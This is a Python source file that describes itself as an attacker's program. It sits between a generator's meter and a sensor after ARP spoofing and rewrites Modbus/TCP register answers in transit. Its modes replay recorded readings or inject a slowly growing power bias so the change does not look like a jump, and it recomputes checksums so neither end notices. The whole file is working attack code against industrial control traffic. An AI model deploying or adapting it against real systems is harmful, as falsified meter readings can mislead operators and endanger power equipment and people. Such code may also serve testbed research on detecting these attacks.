"""Stands between the generator's meter and the sensor, and hands on something else than the meter said.

A program of an attacker. Both ends already send their frames here (arpspoof has told them to). Each is handed
on to whom it was meant for, so that no connection breaks. On the way the registers of the meter's Modbus/TCP
answers are replaced. Their length stays what it was, so that neither end's TCP sees anything::

    none      as the meter said it
    replay    what was recorded in the first --record-s seconds, again and again
    inject    the meter's three powers, and a bias that grows: too slowly to look like a jump

``middle.py --tell replay`` makes the program that already runs on this host do so from now on.

The kernel of this host forwards nothing by itself. Frames are taken and given by a packet socket.
"""

import argparse
import select
import socket
import struct
import time

ETH_IPV4 = 0x0800
TCP = 6
MODBUS = 502
#: Header of an answer to "read input registers": transaction, protocol 0, length, unit, function 4,
#: bytes of registers.
ANSWER = struct.Struct("!HHHBBB")
READ_INPUT = 4
#: The meter's registers: three powers [kVA] and three loads [kW].
VALUES = struct.Struct("!6f")
CONTROL = ("127.0.0.1", 9999)
LIES = ("none", "replay", "inject")
#: Number of recent segments to remember, since a retransmission must repeat the earlier contents.
REMEMBERED = 64


def checksum(data: bytes) -> int:
    """Of IP and TCP (RFC 1071)."""
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Lie:
    """What becomes of the registers."""

    def __init__(self, kind: str, record_s: float, ramp_kva_s: float, most_kva: float):
        self.kind = kind
        self.began_s = time.monotonic()
        self.record_until_s = self.began_s + record_s
        self.ramp_kva_s, self.most_kva = ramp_kva_s, most_kva
        self.recorded: list[bytes] = []
        self.played = 0

    def begin(self, kind: str) -> None:
        self.kind, self.began_s, self.played = kind, time.monotonic(), 0
        print(f"{kind}, with {len(self.recorded)} answers recorded", flush=True)

    def told(self, registers: bytes) -> bytes:
        """What the meter says, and what the sensor is to hear."""
        now_s = time.monotonic()
        if now_s < self.record_until_s:
            self.recorded.append(registers)
        if self.kind == "replay" and self.recorded:
            self.played += 1
            return self.recorded[(self.played - 1) % len(self.recorded)]
        if self.kind == "inject":
            bias_kva = min(self.ramp_kva_s * (now_s - self.began_s), self.most_kva)
            *powers, load_692, load_652, load_611 = VALUES.unpack(registers)
            return VALUES.pack(*(kva + bias_kva for kva in powers), load_692, load_652, load_611)
        return registers


def rewritten(packet: bytes, lie: Lie, remembered: dict) -> bytes:
    """An IPv4 packet of the meter's or the sensor's, with what the sensor is to hear. TCP's sum is always made
    anew: frames of a virtual interface may come without one."""
    header_bytes = (packet[0] & 15) * 4
    if packet[9] != TCP or len(packet) < header_bytes + 20:
        return packet
    segment = bytearray(packet[header_bytes:])
    payload_at = (segment[12] >> 4) * 4
    payload = bytes(segment[payload_at:])
    port, sequence = struct.unpack_from("!H2xI", segment)
    if port == MODBUS and len(payload) == ANSWER.size + VALUES.size:
        _, protocol, _, _, function, count = ANSWER.unpack_from(payload)
        if (protocol, function, count) == (0, READ_INPUT, VALUES.size):
            if sequence not in remembered:
                remembered[sequence] = lie.told(payload[ANSWER.size :])
                if len(remembered) > REMEMBERED:
                    del remembered[next(iter(remembered))]
            segment[payload_at + ANSWER.size :] = remembered[sequence]
    segment[16:18] = b"\0\0"
    pseudo = packet[12:20] + struct.pack("!BBH", 0, TCP, len(segment))
    struct.pack_into("!H", segment, 16, checksum(pseudo + bytes(segment)))
    return packet[:header_bytes] + bytes(segment)


def hardware_address(host: str) -> bytes:
    """Asks the kernel, which asks the network."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        for _ in range(100):
            udp.sendto(b"", (host, 9))
            with open("/proc/net/arp") as table:
                for line in table:
                    address, _, flags, hardware, *_ = line.split()
                    if address == host and flags == "0x2":
                        return bytes.fromhex(hardware.replace(":", ""))
            time.sleep(0.01)
    raise SystemExit(f"{host} does not answer who it is")


def stand(options: argparse.Namespace) -> None:
    ends = {socket.inet_aton(host): hardware_address(host) for host in (options.meter, options.sensor)}
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_IPV4)) as wire,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control,
    ):
        wire.bind((options.interface, ETH_IPV4))
        own = wire.getsockname()[4]
        control.bind(CONTROL)
        lie = Lie(options.lie, options.record_s, options.ramp_kva_s, options.most_kva)
        remembered: dict[int, bytes] = {}
        print("in the middle", flush=True)
        while True:
            for ready in select.select([wire, control], [], [])[0]:
                if ready is control:
                    word = control.recv(64).decode(errors="replace")
                    if word in LIES:
                        lie.begin(word)
                    continue
                frame, sender = wire.recvfrom(65536)
                source, target = frame[26:30], frame[30:34]
                # Own frames are not changed, nor are frames for other hosts.
                ours = sender[2] == socket.PACKET_OUTGOING or frame[:6] != own
                if ours or source not in ends or target not in ends:
                    continue
                packet = frame[14 : 14 + struct.unpack_from("!H", frame, 16)[0]]
                wire.send(ends[target] + own + frame[12:14] + rewritten(packet, lie, remembered))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--meter", default="10.0.0.12", help="the generator's meter (default 10.0.0.12)")
    parser.add_argument("--sensor", default="10.0.0.2", help="who asks it (default 10.0.0.2)")
    parser.add_argument("--lie", choices=LIES, default="none", help="what becomes of answers at first (default none)")
    parser.add_argument("--record-s", type=float, default=0.0, help="seconds of answers to record (default 0)")
    parser.add_argument("--ramp-kva-s", type=float, default=20.0, help="growth of the bias, a phase (default 20 kVA/s)")
    parser.add_argument("--most-kva", type=float, default=400.0, help="where it stays (default 400 kVA)")
    parser.add_argument("--tell", choices=LIES, help="tell the one that runs here, and end")
    options = parser.parse_args()
    if options.tell:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(options.tell.encode(), CONTROL)
        print(f"told it to {options.tell}", flush=True)
    else:
        stand(options)


if __name__ == "__main__":
    main()
